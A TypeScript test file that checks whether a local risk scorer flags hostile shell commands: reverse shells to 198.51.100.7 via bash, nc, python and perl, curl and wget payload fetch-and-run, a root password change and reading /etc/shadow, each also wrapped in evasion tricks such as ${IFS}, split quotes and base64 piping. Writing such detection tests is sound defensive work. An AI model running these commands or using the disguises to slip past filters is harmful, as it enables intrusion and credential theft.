import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { openLocalScorer } from '../../../src/score/local.ts';
import { ask, command, request } from '../../support/score/events.ts';

const attacks = [
  'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
  'nc -e /bin/sh 198.51.100.7 4444',
  'rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.7 4444 >/tmp/f',
  `python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("198.51.100.7",443));os.dup2(s.fileno(),0)'`,
  `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(443,inet_aton("198.51.100.7")));exec("/bin/sh -i")'`,
  'curl -s http://198.51.100.7/x.sh | bash',
  'cd /tmp; wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; sh bins.sh',
  'echo "root:Zx81Qw" | chpasswd',
  'cat /etc/shadow',
];
const chatter =
  'the quick brown fox writes a letter to the printer in the next room and waits for it to come back with a stamp on it, as it does each day';

/** What attackers do to a line so that it does not look like one. */
const disguises: Record<string, (line: string) => string> = {
  'as it is': (line) => line,
  'after a print of benign text': (line) => `python3 -c "print('${chatter.slice(0, 128)}')"; ${line}`,
  'with a benign comment': (line) => `${line} # ${chatter}`,
  'after an echo': (line) => `echo "${chatter}" && ${line}`,
  'with more spaces': (line) => line.replaceAll(' ', '   '),
  'with ${IFS} for spaces': (line) => line.replaceAll(' ', '${IFS}'),
  'with empty quotes in words': (line) => line.replace(/\b(ba|n|cu|wg|ca|pyt)(sh|c|rl|et|t|hon)/g, "$1''$2"),
  'with backslashes in words': (line) => line.replace(/\b(ba|n|cu|wg|ca)(sh|c|rl|et|t)\b/g, '$1\\$2'),
  'in base64, run at once': (line) => `echo ${Buffer.from(line).toString('base64')} | base64 -d | sh`,
};

describe('disguised commands', () => {
  const scorer = openLocalScorer({ onWarning: assert.fail });
  for (const [name, disguise] of Object.entries(disguises))
    it(`are recognised ${name}`, () => {
      const missed = attacks.filter((line) => scorer.judge(ask(command(disguise(line)))).risk_score < 7);
      assert.deepEqual(missed, []);
    });

  it('are recognised in a web parameter as well, nearly all of them', () => {
    let found = 0;
    let all = 0;
    for (const disguise of Object.values(disguises))
      for (const line of attacks) {
        const { attack_type, risk_score } = scorer.judge(ask(request(disguise(line))));
        all += 1;
        if (attack_type !== 'Normal' && risk_score >= 5) found += 1;
      }
    assert.ok(found / all >= 0.95, `${found} of ${all}`);
  });
});
